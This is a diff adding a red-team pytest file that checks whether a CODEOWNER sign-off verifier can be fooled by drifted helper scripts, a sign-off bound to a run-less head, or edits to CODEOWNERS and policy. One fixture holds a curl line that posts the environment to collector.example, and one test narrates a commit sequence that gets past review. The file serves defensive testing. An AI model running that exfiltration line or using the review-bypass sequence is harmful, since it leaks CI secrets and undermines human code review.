@@ -1,0 +1,132 @@
+"""Red team 20: trust-model worlds (PRODUCT §4.8) replayed on the fake server.
+
+Each world is seed 000 (a PASS sign-off, made by tests/data/worlds/make_trust_worlds.py's seed)
+with one change an author controls; each test asserts what an honest reading says: no `success`.
+"""
+
+from __future__ import annotations
+
+import pytest
+from lib.scripts import load_script
+
+from infx.signoff import pipeline as publish
+from infx.signoff.trigger.gating import SignoffRef, Trigger
+
+CONTEXT = "codeowner-signoff-verify"
+
+
+def _worlds(request):
+    return load_script(request.config.rootpath / "tests/data/worlds/make_trust_worlds.py", "make_trust_worlds_rt20")
+
+
+def _verify(fake, pr: int = 3412, comment_id: int = 5003):
+    trigger = Trigger(True, "test", pr, SignoffRef("issue_comment", comment_id), actor="chunfangamd", dispatched=True)
+    return publish.verify(fake.client(), fake.world["repo"], trigger, publish.Options())
+
+
+def _posted(fake, sha: str) -> list[str]:
+    return [s["state"] for s in fake.world["statuses"].get(sha, []) if s["context"] == CONTEXT]
+
+
+def test_seed_000_passes(request, fake_github):
+    """The control every world below changes one thing of."""
+    m = _worlds(request)
+    fake = fake_github(m.SEED.seed000())
+    _verify(fake)
+    assert _posted(fake, m.HEAD) == ["pending", "success"]
+
+
+# --- 1. drift: a file the recipe runs from outside benchmarks/ and runners/ -----------------------
+
+HELPER_CASES = [
+    # a shell helper the recipe sources (the launch graph follows it; drift does not compare it)
+    ("utils/engine_env.sh", "source utils/engine_env.sh\n", "export ATOM_PA_FLYDSL_PLAN=1\n",
+     "export ATOM_PA_FLYDSL_PLAN=1\nexport ATOM_DECODE_GRAPH_BS=4096\n"),
+    # a Python program the recipe runs from the PR's checkout
+    ("tools/warmup.py", "python3 tools/warmup.py\n", "print('warm')\n",
+     "import os\nos.environ['ATOM_DECODE_GRAPH_BS'] = '4096'\nos.system('curl -s -d \"$(env)\" https://collector.example/upload')\n"),
+]
+
+
+@pytest.mark.xfail(strict=True, reason="rt20: benchmark_content.differences (drift, the reuse binding, "
+                   "and fingerprints) compares only benchmarks/ and runners/ of what the sweep job runs "
+                   "from the PR's checkout; a file the recipe sources or runs from utils/ or tools/ changes "
+                   "after the sweep and the head counts as swept: false success")
+@pytest.mark.parametrize("path, call, swept, head", HELPER_CASES, ids=["sourced-sh", "run-py"])
+def test_a_file_the_recipe_runs_from_elsewhere_changed_after_the_sweep_is_drift(request, fake_github, path, call,
+                                                                              swept, head):
+    """The swept commit 7bbb0e adds `path` (run by the recipe); the head 296a93, which the
+    CODEOWNER signs, changes it. The sweep's results are of the old file."""
+    m = _worlds(request)
+    world = m.SEED.seed000()
+    files = world["commits"][m.SWEEP]["files"]
+    files[m.SCRIPT] = files[m.SCRIPT].replace("export ATOM_PA_FLYDSL=1\n", "export ATOM_PA_FLYDSL=1\n" + call)
+    files[path] = swept
+    world["commits"][m.HEAD]["files"][path] = head
+    fake = fake_github(world)
+    result = _verify(fake)
+    assert "success" not in _posted(fake, m.HEAD), result.reason
+
+
+# --- 2. binding: a head GitHub recorded no run for ------------------------------------------------
+
+CLEAN = "c0ffee00000000000000000000000000000000a1"
+BACK = "c0ffee00000000000000000000000000000000a2"
+DISABLED = "name: codeowner-signoff-verify\non: workflow_dispatch\njobs: {}\n"
+
+
+def _clean_head_signed(m) -> dict:
+    """The swept commit and head 296a93 (run at 09:00) post the environment out (EXFIL). At 09:10
+    the author pushes CLEAN: the upload dropped, and the PR's own signoff-verify.yml no longer
+    triggers on pull_request, so GitHub starts no run for it (a PR whose merge with main conflicts
+    gets none either). The CODEOWNER reviews what the PR shows, CLEAN, and signs at 09:30. At 10:00
+    the author pushes BACK, a plain commit restoring 296a93's tree (a run records it). Nothing was
+    force-pushed and no message asks to skip CI."""
+    world = m.SEED.seed000()
+    sweep = world["commits"][m.SWEEP]["files"]
+    hostile = sweep[m.SCRIPT] + m.EXFIL
+    sweep[m.SCRIPT] = hostile
+    world["commits"][CLEAN] = {"parents": [m.HEAD], "files_from": m.HEAD, "message": "drop the upload",
+                               "files": {m.SCRIPT: hostile.replace(m.EXFIL, ""),
+                                         ".github/workflows/signoff-verify.yml": DISABLED}}
+    world["commits"][BACK] = {"parents": [CLEAN], "files_from": CLEAN, "message": "restore",
+                              "files": {m.SCRIPT: hostile, ".github/workflows/signoff-verify.yml": None}}
+    pull = world["pulls"][0]
+    pull["commits"] = [*pull["commits"], CLEAN, BACK]
+    pull["head"]["sha"] = BACK
+    pull["timeline"] = [{"event": "committed", "sha": sha, "message": world["commits"][sha]["message"]}
+                        for sha in pull["commits"]]
+    world["workflow_runs"].append(m._head_run(35873197790, BACK, pull["head"]["ref"], "2026-09-24T10:00:00Z"))
+    return world
+
+
+@pytest.mark.xfail(strict=True, reason="rt20: posted_head.head_seen takes the newest pull_request run "
+                   "before the sign-off as the head seen, and only a [skip ci]-style message of a later "
+                   "run-less commit makes it unknown; a head left without a run otherwise (the PR's "
+                   "workflows disabled in its merge ref, a merge conflict) binds the sign-off to the "
+                   "hostile head before it, which BACK then inherits: false success")
+def test_a_sign_off_on_a_head_no_run_records_does_not_cover_the_head_before_it(request, fake_github):
+    m = _worlds(request)
+    fake = fake_github(_clean_head_signed(m))
+    result = _verify(fake)
+    assert "success" not in _posted(fake, BACK), result.reason
+
+
+# --- 3. scope: the PR rewrites what the verdict trusts, signed by a vendor owner ----------------
+
+@pytest.mark.xfail(strict=True, reason="rt20: Check codeowner leaves catch-all-only paths aside, so a "
+                   "PR that also edits CODEOWNERS (making its author an owner of configs/), the sign-off "
+                   "policy and the sign-off workflow passes on the sign-off of an owner of "
+                   "configs/amd-master.yaml only, and the verdict does not name those files: success")
+def test_a_pr_that_edits_codeowners_and_policy_needs_their_owner(request, fake_github):
+    m = _worlds(request)
+    world = m.SEED.seed000()
+    root = m._root(world)["files"]
+    head = world["commits"][m.HEAD]["files"]
+    head["CODEOWNERS"] = root["CODEOWNERS"] + "\nconfigs/ @yhl-amd\n"
+    overrides = root["configs/policy/overrides.yaml"]
+    assert "num_hidden_layers" in overrides
+    head["configs/policy/overrides.yaml"] = overrides.replace("num_hidden_layers", "num_hidden_layerz")
+    fake = fake_github(world)
+    result = _verify(fake)
+    assert "success" not in _posted(fake, m.HEAD), result.reason
